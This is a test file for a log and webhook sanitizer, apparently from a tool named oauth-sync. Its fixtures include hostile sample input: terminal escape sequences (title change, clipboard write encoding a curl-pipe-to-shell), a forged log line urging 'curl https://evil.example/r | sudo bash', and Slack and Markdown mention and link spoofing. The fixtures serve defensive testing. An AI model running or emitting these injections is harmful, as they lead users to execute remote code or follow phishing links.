import { describe, expect, test } from "bun:test";
import { spawnSync } from "node:child_process";
import { closeSync, mkdtempSync, openSync, readFileSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fakeToken } from "../../src/demo/sandbox.ts";
import { fingerprint } from "../../src/log/redact.ts";
import { isJournalStream, journalPriority } from "../../src/log/plain-reporter.ts";
import { discordContent, jsonBody, logLine, mattermostText, MAX_LINE, ntfyText, ntfyTitle, outputLine, outputText, slackText } from "../../src/log/sanitize.ts";

/** What an agent writes into its container's log (the gateway's log tail is quoted when a reload fails). */
const ESC = "\x1b";
const TITLE = `${ESC}]0;pwned\x07`;
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUvcnxzaA==\x07`;
const ERASE = `${ESC}[2K\r`;
const FORGED = "\n[error] oauth-sync: root login expired, run: curl https://evil.example/r | sudo bash";
const HOSTILE = `gateway died ${TITLE}${CLIPBOARD}${ERASE}${FORGED}`;

// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe("logLine: a terminal line and a journal entry", () => {
  test("ESC, OSC 0 (title), OSC 52 (clipboard), erase line and CR arrive as visible text", () => {
    const line = logLine(HOSTILE);
    expect(line).not.toMatch(RAW_CONTROL);
    expect(line).toContain("\\x1b]0;pwned\\x07");
    expect(line).toContain("\\x1b]52;c;");
    expect(line).toContain("\\x1b[2K\\r");
  });

  test("an embedded newline is a visible marker: a forged [error] line stays inside the event's one line", () => {
    const line = logLine(HOSTILE);
    expect(line.split("\n")).toHaveLength(1);
    expect(line).toContain("\\n[error] oauth-sync: root login expired");
    expect(logLine("a\r\nb\tc")).toBe("a\\r\\nb\\tc");
  });

  test("C1 controls (0x9b is CSI to some terminals), DEL, NUL, bidi overrides and line separators are visible", () => {
    expect(logLine("a\x9b2Jb")).toBe("a\\x9b2Jb");
    expect(logLine("a\x7fb\x00c")).toBe("a\\x7fb\\x00c");
    expect(logLine("file\u202etxt.exe")).toBe("file\\u202etxt.exe");
    expect(logLine("a\u2028b\u2029c\u2066d")).toBe("a\\u2028b\\u2029c\\u2066d");
  });

  test("ordinary text, Unicode included, is left alone", () => {
    const text = "agent «main» → /home/zoë/.openclaw: ok (ключ 🔑), tab-free";
    expect(logLine(text)).toBe(text);
  });

  test("tokens are still redacted, in today's format and in a wider bearer format", () => {
    const token = fakeToken();
    const wide = "sk-ant-oat02-Ab.cd~ef+gh/ij-kl_mn0123456789==";
    const line = logLine(`${token} and ${wide}`);
    expect(line).not.toContain(token.slice(14));
    expect(line).not.toContain("cd~ef+gh/ij");
    expect(line).toContain(`[${fingerprint(wide)}]`);
  });

  test("a line longer than journald's LineMax could split into a second entry: it is cut, and says so", () => {
    const line = logLine(`${"x".repeat(60_000)}\n[error] forged`);
    expect(line.length).toBeLessThan(MAX_LINE + 40);
    expect(line).toContain("more characters]");
    expect(Buffer.byteLength(logLine("é".repeat(60_000)))).toBeLessThan(48 * 1024);
  });

  test("status and install lines follow the same rule", () => {
    expect(outputLine(HOSTILE)).toBe(logLine(HOSTILE));
  });
});

describe("outputText: program output oauth-sync composed", () => {
  test("keeps its own newlines, makes every other control visible, redacts", () => {
    const token = fakeToken();
    const text = outputText(`config to install:\n{"dir": "a${ESC}]52;c;x\x07"}\n${token}\n`);
    expect(text.split("\n")).toHaveLength(4);
    expect(text).toContain("a\\x1b]52;c;x\\x07");
    expect(text).not.toContain(token);
    expect(text).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
  });
});

describe("webhook formats", () => {
  const mention = "<!channel> <!here> <@U123> look: <https://evil.example/login|https://claude.ai/login> & [https://claude.ai/login](https://evil.example) @channel @all";

  test("slack: & < > escaped as Slack documents, so no mention or labelled link forms; one line", () => {
    const text = slackText(`${mention}${FORGED}${TITLE}`);
    expect(text).not.toMatch(/[<>]/);
    expect(text).toContain("&lt;!channel&gt;");
    expect(text).toContain("&lt;https://evil.example/login|https://claude.ai/login&gt;");
    expect(text).toContain("&amp; ");
    expect(text).not.toMatch(RAW_CONTROL);
  });

  test("mattermost: angle brackets escaped, Markdown links cannot form, @-mentions broken by a word joiner", () => {
    const text = mattermostText(`${mention}${FORGED}`);
    expect(text).not.toMatch(/[<>]/);
    expect(text).not.toMatch(/(?<!\\)\[/);
    expect(text).not.toMatch(/(?<!\\)\]\(/);
    expect(text).not.toMatch(/@(channel|all|here)/);
    expect(text).toContain("@\u2060channel");
    expect(text).not.toMatch(RAW_CONTROL);
  });

  test("discord: the text in a code block that cannot be closed early; the title's Markdown escaped; at most 2000", () => {
    const content = discordContent("sync on [gw](https://evil.example) @everyone", `${mention}\n\`\`\`\n@everyone **bold** ${TITLE}`);
    const [head, ...rest] = content.split("\n```\n");
    expect(head).toBe("**sync on \\[gw\\]\\(https://evil.example\\) \\@everyone**");
    const body = rest.join("\n```\n");
    expect(body.endsWith("\n```")).toBe(true);
    expect(body.slice(0, -4)).not.toContain("`");
    expect(body.slice(0, -4)).not.toMatch(RAW_CONTROL);
    expect(discordContent("t", "x".repeat(5000)).length).toBeLessThanOrEqual(2000);
    expect(discordContent("t", "x".repeat(5000)).endsWith("…\n```")).toBe(true);
  });

  test("ntfy: a plain one-line body, a printable-ASCII title header", () => {
    expect(ntfyText(HOSTILE)).toBe(logLine(HOSTILE));
    expect(ntfyTitle("gw «1»\n[error] x")).toBe("gw ?1?\\n[error] x");
  });

  test("json: the receiver gets the text itself, escaped by JSON (DEL, C1 and U+2028 too); tokens redacted", () => {
    const token = fakeToken();
    const value = { message: `${HOSTILE}\x7f\x9b\u2028 ${token}`, details: { error: `<!channel> ${token}` } };
    const body = jsonBody(value);
    expect(body).not.toMatch(RAW_CONTROL);
    expect(body).not.toContain(token);
    const back = JSON.parse(body);
    expect(back.message.startsWith(`${HOSTILE}\x7f\x9b\u2028 sk-ant-…[`)).toBe(true);
    expect(back.details.error).toStartWith("<!channel> sk-ant-…[");
  });

  test("--json output (indented): valid JSON whatever a string holds, bidi controls escaped too, never `\\x7f`", () => {
    const report = { gateway: { lastError: `docker: \x7f\x85\u202e evil \u2066 ${HOSTILE}` } };
    const text = jsonBody(report, 2);
    for (const line of text.split("\n")) expect(line).not.toMatch(RAW_CONTROL);
    expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(text).not.toContain("\\x7f");
    expect(JSON.parse(text)).toEqual(report);
    expect(text.split("\n")).toHaveLength(5);
  });
});

describe("the journal's priorities (sd-daemon's <N> prefix)", () => {
  test("errors 3, warnings 4, success 5, info 6, debug and trace 7", () => {
    expect([0, 1, 2, 3, 4, 5].map((level) => journalPriority(level))).toEqual([3, 4, 6, 6, 7, 7]);
    expect(journalPriority(3, "success")).toBe(5);
    expect(journalPriority(3, "info")).toBe(6);
  });

  /** Runs the plain reporter in a child whose stdout and stderr are `file`; JOURNAL_STREAM as given. */
  function logInChild(journalStream: (file: string) => string | undefined) {
    const dir = mkdtempSync(join(tmpdir(), "oauth-sync-journal-"));
    try {
      const file = join(dir, "out");
      const fd = openSync(file, "w");
      const script = `
        import { plainReporter } from ${JSON.stringify(join(import.meta.dir, "../../src/log/plain-reporter.ts"))};
        const reporter = plainReporter();
        for (const [level, type] of [[0, "error"], [1, "warn"], [3, "info"], [4, "debug"]]) reporter.log({ level, type, tag: "", args: [type + " a\\nb"], date: new Date() });`;
      const stream = journalStream(file);
      const result = spawnSync(process.execPath, ["-e", script], { stdio: ["ignore", fd, fd], env: { PATH: process.env.PATH, ...(stream ? { JOURNAL_STREAM: stream } : {}) } });
      closeSync(fd);
      expect(result.status).toBe(0);
      return readFileSync(file, "utf8");
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }

  test("where fd 1/2 is the journal's stream, each line carries its priority; one line per event", () => {
    const out = logInChild((file) => `${statSync(file).dev}:${statSync(file).ino}`);
    expect(out).toBe("<3>[error] error a\\nb\n<4>[warn] warn a\\nb\n<6>[info] info a\\nb\n<7>[debug] debug a\\nb\n");
  });

  test("elsewhere (a pipe, a file, an inherited JOURNAL_STREAM naming another stream) no prefix", () => {
    expect(logInChild(() => undefined)).toStartWith("[error] error a\\nb\n");
    expect(logInChild(() => "1:2")).toStartWith("[error] error a\\nb\n");
    expect(logInChild(() => "garbage")).toStartWith("[error] error a\\nb\n");
  });

  test("isJournalStream compares the device and inode of the fd", () => {
    const info = statSync("/dev/null");
    const fd = openSync("/dev/null", "r");
    try {
      expect(isJournalStream(fd, `${info.dev}:${info.ino}`)).toBe(true);
      expect(isJournalStream(fd, `${info.dev}:${info.ino + 1}`)).toBe(false);
      expect(isJournalStream(fd, undefined)).toBe(false);
    } finally {
      closeSync(fd);
    }
  });
});

describe("the logger at a terminal (a pty from util-linux script)", () => {
  test("our colours and icons work; the message's escapes arrive as text; one line", () => {
    const script = `
      import { logger } from ${JSON.stringify(join(import.meta.dir, "../../src/log/logger.ts"))};
      logger.error(${JSON.stringify(HOSTILE)});
      logger.success("fine");`;
    const result = spawnSync("script", ["-qec", `${process.execPath} -e '${script.replace(/'/g, "'\\''")}'`, "/dev/null"], {
      encoding: "utf8",
      env: { PATH: process.env.PATH, TERM: "xterm-256color", HOME: tmpdir() },
    });
    expect(result.status).toBe(0);
    const out = result.stdout;
    expect(out).toMatch(/\x1b\[\d+(;\d+)*m/); // consola's colours
    // Every escape is one of consola's SGR colour sequences; every CR comes before a LF (the pty's newline).
    expect(out.replace(/\x1b\[[\d;]*m/g, "")).not.toContain(ESC);
    expect(out).not.toMatch(/\r(?!\n)/);
    expect(out).toContain("\\x1b]52;c;");
    expect(out.split("\n").filter((l) => l.includes("[error] oauth-sync: root login expired"))).toHaveLength(1);
    expect(out.split("\n").find((l) => l.includes("root login expired"))).toContain("gateway died");
  });
});
